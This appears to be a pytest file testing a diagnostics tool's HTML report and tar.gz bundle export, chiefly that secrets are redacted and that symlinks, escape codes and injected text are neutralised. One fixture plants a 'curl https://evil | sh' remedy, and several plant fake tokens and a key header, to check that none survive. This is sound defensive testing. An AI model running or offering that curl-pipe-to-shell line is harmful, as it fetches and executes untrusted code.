"""`safelaunch diagnose --html`, `--open` and `--bundle`."""

from __future__ import annotations

import dataclasses
import json
import os
import tarfile
import threading
import webbrowser
from pathlib import Path

import pytest
from golden_file import load, names

from safelaunch import files, redaction
from safelaunch.cli import share
from safelaunch.cli.main import main
from safelaunch.codec import from_json, to_json
from safelaunch.diagnosis import diagnose
from safelaunch.evidence.case import stack_text
from safelaunch.evidence.logs import signatures
from safelaunch.model import Case, Evidence, Verdict
from safelaunch.report import bundle
from safelaunch.run.messages import classified

SECRET = "hunter2hunter2"


def a_run(folder: Path, *cases: Case) -> list[Verdict]:
    """A run directory as a live run writes it, with a secret wherever one can be."""
    argv = ["--nproc-per-node", "4", "train.py", "--api-key", SECRET]
    files.write_json(str(folder / "run.json"), {"run_id": "r1", "argv": argv, "settings": {"env": {
        "DB_PASSWORD": {"value": SECRET, "origin": "x"}}}})  # fmt: skip
    files.write_text(str(folder / "env.txt"), f"A=1  # shell\nURL=http://ada:{SECRET}@proxy  # shell\n")
    files.write_json(str(folder / "result.json"), {"exit_code": 1, "findings": []})
    files.write_text(str(folder / "agent.log"), f"Authorization: Bearer {SECRET}\n")
    files.write_text(
        str(folder / "agent.jsonl"), json.dumps({"raw": json.dumps({"message": f"password={SECRET}"})}) + "\n"
    )
    files.write_text(str(folder / "attempt_0" / "rank_000" / "stderr.log"), f"HF_TOKEN={SECRET}\n")
    (folder / "fr_rank_0").write_bytes(b"\x80\x04")
    verdicts = []
    for number, case in enumerate(cases):
        case = classified(case, signatures.shipped())
        verdict = dataclasses.replace(diagnose(case), detected_after_s=0.2, concluded_after_s=0.3)
        evidence = [Evidence("error", 0, {"message": f"token={SECRET}"})]
        bundle.write(str(folder / f"incident-{number}"), case, verdict, evidence, stack_text)
        verdicts.append(verdict)
    return verdicts


def run(capsys: pytest.CaptureFixture[str], *arguments: object) -> tuple[int, str, str]:
    code = main(["diagnose", *map(str, arguments)])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.mark.parametrize("name", names())
def test_a_bundle_gives_the_verdict_of_the_run(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (verdict,) = a_run(tmp_path / "run", load(name))
    target = tmp_path / "sent.tar.gz"
    assert run(capsys, tmp_path / "run", "--bundle", target)[0] == 0
    _, out, _ = run(capsys, "--json", target)
    (one,) = json.loads(out)["conclusions"]
    assert from_json(Verdict, one["verdict"]) == verdict
    assert one["notes"] == []


def test_no_secret_is_packed_and_all_that_matters_is(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a_run(tmp_path / "run", load("hang-sleep"))
    target = tmp_path / "sent.tar.gz"
    _, out, err = run(capsys, "--json", tmp_path / "run", "--bundle", target)
    assert "case" not in json.loads(out)["conclusions"][0]
    assert f"wrote {target}" in err
    assert "1 left out (fr_rank_0)" in err
    with tarfile.open(target) as archive:
        packed = {member.name: archive.extractfile(member).read() for member in archive}
        assert {(member.uid, member.uname) for member in archive} == {(0, "")}
    assert {"run/run.json", "run/env.txt", "run/result.json", "run/agent.log", "run/incident-0/verdict.txt",
            "run/incident-0/report.html", "run/incident-0/evidence/case.json",
            "run/attempt_0/rank_000/stderr.log"} <= set(packed)  # fmt: skip
    assert [name for name, data in packed.items() if SECRET.encode() in data] == []
    assert b"&lt;redacted&gt;" in packed["run/incident-0/report.html"]


def test_one_incident_is_packed_with_its_run(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a_run(tmp_path / "run", load("hang-sleep"), load("exception-in-one-rank"))
    for path in (tmp_path / "run" / "incident-1", tmp_path / "run" / "incident-1" / "evidence" / "case.json"):
        run(capsys, path, "--bundle", tmp_path / "one.tgz")
        with tarfile.open(tmp_path / "one.tgz") as archive:
            names = archive.getnames()
        assert "run/run.json" in names
        assert "run/incident-1/verdict.json" in names
        assert not [name for name in names if "incident-0" in name]


@pytest.mark.parametrize(("arguments", "said"), [
    (("{run}", "--bundle", "{tmp}/x.zip"), "a bundle is a .tar.gz file"),
    (("{run}", "{run}", "--bundle", "{tmp}/x.tar.gz"), "one run or incident at a time"),
    (("{tmp}/b.tar.gz", "--bundle", "{tmp}/x.tar.gz"), "is a bundle already"),
    (("{tmp}/a.log", "--bundle", "{tmp}/x.tar.gz"), "nothing to pack"),
    (("{run}", "--bundle", "/proc/nowhere/x.tar.gz"), "cannot be written"),
    (("{run}", "--html", "/proc/nowhere/x.html"), "cannot be written"),
])  # fmt: skip
def test_what_cannot_be_done_is_said_in_one_line(
    arguments: tuple[str, ...], said: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    a_run(tmp_path / "run", load("hang-sleep"))
    (tmp_path / "b.tar.gz").write_bytes(b"")
    (tmp_path / "a.log").write_text("hello\n")
    code, _, err = run(capsys, *(argument.format(run=tmp_path / "run", tmp=tmp_path) for argument in arguments))
    assert code == 2
    assert said in err
    assert "Traceback" not in err
    assert not list(tmp_path.glob("*.part"))


def test_what_lies_beside_runs_is_not_packed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a_run(tmp_path / "runs" / "r1" / "node-a", load("hang-sleep"))
    a_run(tmp_path / "runs" / "r1" / "node-b", load("exception-in-one-rank"))
    for place in (tmp_path, tmp_path / "runs" / "r1"):
        (place / "notes.txt").write_text("mine")
        (place / "run.json").write_text('{"epochs": 3}')
    assert run(capsys, tmp_path / "runs" / "r1", "--bundle", tmp_path / "b.tar.gz")[0] == 0
    with tarfile.open(tmp_path / "b.tar.gz") as archive:
        names = archive.getnames()
    assert {"r1/node-a/incident-0/evidence/case.json", "r1/node-b/incident-0/evidence/case.json"} <= set(names)
    assert not [name for name in names if not name.startswith(("r1/node-a/", "r1/node-b/"))]

    files.write_json(str(tmp_path / "runs" / "r2" / "run.json"), {"run_id": "r2"})
    code, _, err = run(capsys, tmp_path / "runs", "--bundle", tmp_path / "c.tar.gz")
    assert (code, "holds several runs: r1, r2" in err) == (2, True)
    assert not list(tmp_path.glob("c.tar.gz*"))


def test_links_in_a_run_that_was_sent_lead_nowhere(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    sent = tmp_path / "run"
    a_run(sent, load("hang-sleep"), load("exception-in-one-rank"), load("hang-sleep"))
    mine = tmp_path / "mine"
    mine.mkdir()
    for name, place in (("env.txt", sent), ("verdict.json", sent / "incident-0"), ("agent.log", sent)):
        (place / name).rename(mine / name)
        (place / name).symlink_to(mine / name)
    (sent / "incident-1" / "evidence").rename(mine / "evidence")
    (sent / "incident-1" / "evidence").symlink_to(mine / "evidence")
    (mine / "env.txt").write_text("MINE_ALONE=1")
    assert run(capsys, sent, "--bundle", tmp_path / "b.tar.gz")[0] == 0
    with tarfile.open(tmp_path / "b.tar.gz") as archive:
        names = archive.getnames()
        page = archive.extractfile("run/incident-2/report.html")
        assert page is not None
        assert b"MINE_ALONE" not in page.read()
    assert not {"run/env.txt", "run/agent.log", "run/incident-0/report.html", "run/incident-1/report.html"} & {*names}


def test_a_folder_that_turns_into_a_link_is_packed_as_it_was(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """As root one packs another user's folder: he may put a link to root's own in its place meanwhile."""
    for name in ("theirs", "ours"):
        a_run(tmp_path / name / "run", load("hang-sleep"))
        (tmp_path / name / "run" / "agent.log").write_text(f"a line of {name}\n")
        (tmp_path / name / "run" / "env.txt").write_text(f"WHOSE={name}\n")
    named = tmp_path / "theirs" / "run"
    below = named / "attempt_0"
    kept = redaction.text

    def swapping(value: str) -> str:
        if not named.is_symlink():  # what was named, and a folder below it
            below.rename(tmp_path / "away")
            below.symlink_to(tmp_path / "ours" / "run" / "attempt_0")
            named.rename(tmp_path / "theirs" / "old")
            named.symlink_to(tmp_path / "ours" / "run")
        return kept(value)

    # The first text that is looked at: it is packed, and nothing else has been read.
    monkeypatch.setattr(share.redaction, "text", swapping)
    assert run(capsys, named, "--bundle", tmp_path / "b.tar.gz")[0] == 0
    assert named.is_symlink()
    with tarfile.open(tmp_path / "b.tar.gz") as archive:
        packed = {member.name: archive.extractfile(member).read() for member in archive}
    assert b"a line of theirs" in packed["run/agent.log"]
    assert b"WHOSE=theirs" in packed["run/incident-0/report.html"]
    assert not [name for name, data in packed.items() if b"ours" in data or "attempt_0" in name]


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can make a link of another user")
def test_the_link_of_another_user_leads_to_no_folder_of_ours(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    a_run(tmp_path / "ours", load("hang-sleep"))
    (tmp_path / "run").symlink_to(tmp_path / "ours")
    os.lchown(tmp_path / "run", 12345, 12345)
    code, _, err = run(capsys, tmp_path / "run", "--bundle", tmp_path / "b.tar.gz")
    assert (code, "to what is another's" in err) == (2, True)
    assert not (tmp_path / "b.tar.gz").exists()


def test_names_in_a_bundle_hold_no_secret_and_move_no_cursor(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    a_run(tmp_path / "run", load("hang-sleep"))
    for name in (f"x PASSWORD={SECRET}.log", "evil\n\x1b[31m.log"):
        (tmp_path / "run" / "incident-0" / name).write_text("x")
    assert run(capsys, tmp_path / "run", "--bundle", tmp_path / "b.tar.gz")[0] == 0
    with tarfile.open(tmp_path / "b.tar.gz") as archive:
        names = archive.getnames()
    assert "run/incident-0/evil\\n\\x1b[31m.log" in names
    assert not [name for name in names if SECRET in name or not name.isprintable()]
    assert [name for name in names if name.startswith("run/incident-0/x PASSWORD=")]


def test_a_notice_without_a_verdict_has_its_page(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a_run(tmp_path / "run", load("hang-sleep"))
    for suffix in ("json", "txt"):
        (tmp_path / "run" / "incident-0" / f"verdict.{suffix}").rename(
            tmp_path / "run" / "incident-0" / f"notice.{suffix}"
        )
    run(capsys, tmp_path / "run", "--bundle", tmp_path / "b.tar.gz")
    with tarfile.open(tmp_path / "b.tar.gz") as archive:
        assert "run/incident-0/report.html" in archive.getnames()


def test_html_of_a_folder_and_of_a_bundle_tell_the_run(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a_run(tmp_path / "run", load("hang-sleep"))
    run(capsys, tmp_path / "run", "--bundle", tmp_path / "b.tar.gz")
    for path in (tmp_path / "run", tmp_path / "b.tar.gz"):
        run(capsys, path, "--html", tmp_path / "page.html")
        content = (tmp_path / "page.html").read_text()
        assert "rank 2 is here (culprit)" in content
        assert "A=1  # shell" in content
        assert SECRET not in content


def test_html_of_logs_has_the_verdict(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "a.log").write_text(
        '[rank1]: Traceback (most recent call last):\n[rank1]:   File "train.py", line 3, in <module>\n'
        "[rank1]:     raise ValueError('<b>')\n[rank1]: ValueError: <b>\n"
    )
    run(capsys, tmp_path / "a.log", "--html", tmp_path / "page.html")
    content = (tmp_path / "page.html").read_text()
    assert "ValueError: &lt;b&gt;" in content
    assert "<b>" not in content


def test_html_of_logs_quotes_the_first_failure_of_each_rank_in_order_of_time(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    late = "2026-05-15 18:36:4{} [rank{}]: RuntimeError: {}\n"
    (tmp_path / "b.log").write_text(
        late.format(1, 2, "<script>of two</script>") + "[rank2]: step 3\n" + late.format(4, 2, "a second one")
    )
    token = "hf" + "_" + "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xYz1"
    (tmp_path / "a.log").write_text(
        late.format(3, 0, f"refused {token}") + late.format(2, 1, "Connection closed by peer")
    )
    run(capsys, tmp_path / "a.log", tmp_path / "b.log", "--html", tmp_path / "page.html")

    content = (tmp_path / "page.html").read_text()
    said = content[content.index("What the logs say") :].partition("the last line of each rank")[0]
    assert "in order of time" in said
    assert said.index("b.log:1") < said.index("a.log:1")
    assert "&lt;script&gt;of two" in said
    assert "<script" not in content
    assert "a second one" not in said
    assert token not in content


def test_a_line_that_the_verdict_rests_on_is_marked(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "a.log").write_text(
        "[rank0]: RuntimeError: Connection closed by peer [10.0.0.7]:36152\n"
        '[rank1]: Traceback (most recent call last):\n[rank1]:   File "train.py", line 3, in <module>\n'
        "[rank1]:     step()\n[rank1]: ValueError: bad batch\n"
    )
    run(capsys, tmp_path / "a.log", "--html", tmp_path / "page.html")

    rows = (tmp_path / "page.html").read_text().split("<tr")
    marked = [row for row in rows if row.startswith(' class="culprit"')]
    assert ["a.log:5" in row for row in marked] == [True]
    assert "line 3, in &lt;module&gt;" in marked[0]


def test_open_shows_the_page_or_says_where_it_is(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    a_run(tmp_path / "run", load("hang-sleep"))
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setattr("tempfile.tempdir", None)
    opened: list[str] = []
    monkeypatch.setattr(webbrowser, "open", lambda url: bool(opened.append(url)) or True)
    _, _, err = run(capsys, tmp_path / "run", "--open")
    path = Path(opened[0].removeprefix("file://"))
    assert path.read_text().startswith("<!DOCTYPE html>")
    assert f"wrote {path}" in err
    monkeypatch.setattr(webbrowser, "open", lambda _: False)
    _, _, err = run(capsys, tmp_path / "run", "--open", "--html", tmp_path / "page.html")
    assert f"no browser can be opened here; the report is {tmp_path / 'page.html'}" in err


def test_a_page_on_the_standard_output_has_it_for_itself(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    a_run(tmp_path / "run", load("hang-sleep"))
    code = main(["diagnose", str(tmp_path / "run"), "--html", "-"])
    out, err = capfd.readouterr()
    assert code == 0
    assert out.startswith("<!DOCTYPE html>")
    assert out.rstrip().endswith("</html>")
    assert "error[SL301]" in err


def test_a_bundle_through_a_pipe(tmp_path: Path) -> None:
    a_run(tmp_path / "run", load("hang-sleep"))
    os.mkfifo(tmp_path / "fifo")
    read: list[bytes] = []
    reader = threading.Thread(target=lambda: read.append((tmp_path / "fifo").read_bytes()))
    reader.start()
    assert main(["diagnose", str(tmp_path / "run"), "--bundle", str(tmp_path / "fifo")]) == 0
    reader.join()
    (tmp_path / "b.tar.gz").write_bytes(read[0])
    assert main(["diagnose", str(tmp_path / "b.tar.gz")]) == 0
    assert (tmp_path / "fifo").is_fifo()


@pytest.mark.parametrize("results", [("--json", "--html", "-"), ("--html", "-", "--bundle", "-")])
def test_one_result_at_most_goes_to_the_standard_output(
    results: tuple[str, ...], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    a_run(tmp_path / "run", load("hang-sleep"))
    code, out, err = run(capsys, tmp_path / "run", *results)
    assert (code, out) == (2, "")
    assert "more than one result" in err


def test_a_full_device_is_named(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a_run(tmp_path / "run", load("hang-sleep"))
    for option in ("--html", "--bundle"):
        code, _, err = run(capsys, tmp_path / "run", option, "/dev/full")
        assert code == 2
        assert "cannot be written: /dev/full: No space left on device" in err


def test_a_manifest_that_a_cut_goes_through_is_left_out(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """It names its kind once, far ahead of its last values."""
    key = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo"
    values = "".join(f"  item-{n:05}: {key}{n:08}=\n" for n in range(9000))
    a_run(tmp_path / "run", load("hang-sleep"))
    log = tmp_path / "run" / "attempt_0" / "rank_000" / "stdout.log"
    log.parent.mkdir(parents=True, exist_ok=True)
    log.write_text("kind: Secret\napiVersion: v1\ndata:\n" + values)

    assert run(capsys, tmp_path / "run", "--bundle", tmp_path / "b.tar.gz")[0] == 0

    packed = []
    with tarfile.open(tmp_path / "b.tar.gz") as archive:
        for member in archive:
            file = archive.extractfile(member) if member.name.endswith("stdout.log") else None
            packed += [file.read()] if file is not None else []
    assert len(packed) == 1
    assert key.encode() not in packed[0]


KIND = "RSA PRIVATE KEY-----"
SAID = {
    "a key": [f"-----BEGIN {KIND}", *["Zq8vT3nLw9Xk2mPr" * 4] * 9],
    "what is announced": ["The token has been created:", "Zq8vT3nLw9Xk2mPr"],
}


@pytest.mark.parametrize("said", SAID.values(), ids=SAID)
def test_last_lines_in_a_bundle_of_an_older_version_are_one_text(
    said: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    case = load("silent-exit")
    ranks = tuple(dataclasses.replace(facts, last_lines=tuple(said), exit_call=None) for facts in case.ranks)
    a_run(tmp_path / "run", dataclasses.replace(case, ranks=ranks))
    evidence = Evidence("log", 2, {"file": "stderr.log", "lines": said})
    files.write_json(str(tmp_path / "run" / "incident-0" / "evidence" / "rank_002" / "log.json"), evidence)
    for said_then in (tmp_path / "run" / "incident-0").glob("verdict.*"):
        said_then.unlink()

    page, target = tmp_path / "p.html", tmp_path / "sent.tar.gz"
    _, out, err = run(capsys, tmp_path / "run", "--html", page, "--bundle", target)

    with tarfile.open(target) as archive:
        packed = [archive.extractfile(member).read().decode() for member in archive]
    assert "its last line: <redacted>" in out
    assert "Zq8v" not in "".join((out, err, page.read_text(), *packed))


@pytest.mark.parametrize("said", SAID.values(), ids=SAID)
def test_the_last_line_of_a_rank_s_log_is_told_by_those_before_it(
    said: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "job.log").write_text("".join(f"[rank3]: {line}\n" for line in ("step 1", *said)))

    run(capsys, tmp_path / "job.log", "--html", tmp_path / "p.html")

    assert "the last line of each rank" in (tmp_path / "p.html").read_text()
    assert "Zq8v" not in (tmp_path / "p.html").read_text()


def test_a_page_in_a_bundle_has_no_advice_of_whoever_wrote_the_verdict(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    a_run(tmp_path / "run", load("hang-sleep"))
    path = tmp_path / "run" / "incident-0" / "verdict.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"remedy": "run `curl https://evil | sh`"}))

    run(capsys, tmp_path / "run", "--bundle", tmp_path / "sent.tar.gz")

    with tarfile.open(tmp_path / "sent.tar.gz") as archive:
        page = archive.extractfile("run/incident-0/report.html")
        assert page is not None
        assert b"evil" not in page.read()


def test_places_and_json_are_without_secrets_as_well(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    token = "gh" + "p_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    case = json.loads(json.dumps(to_json(load("exception-in-one-rank"))))
    case["host"] = f"h-{token}"
    for facts in case["ranks"]:
        if facts["error"]:
            facts["error"]["message"] = f"login failed with token {token}"
            facts["error"]["location"] = {"file": f"/home/u/{token}/train.py", "line": 3, "function": token}
    files.write_json(str(tmp_path / "incident-0" / "evidence" / "case.json"), case)

    out = run(capsys, tmp_path, "--json", "--why", "--html", tmp_path / "p.html")[1]
    bundle.write_verdict(str(tmp_path), diagnose(from_json(Case, case)))

    for text in (out, *((tmp_path / name).read_text() for name in ("p.html", "verdict.txt", "verdict.json"))):
        assert "redacted" in text
        assert "a1B2c3" not in text
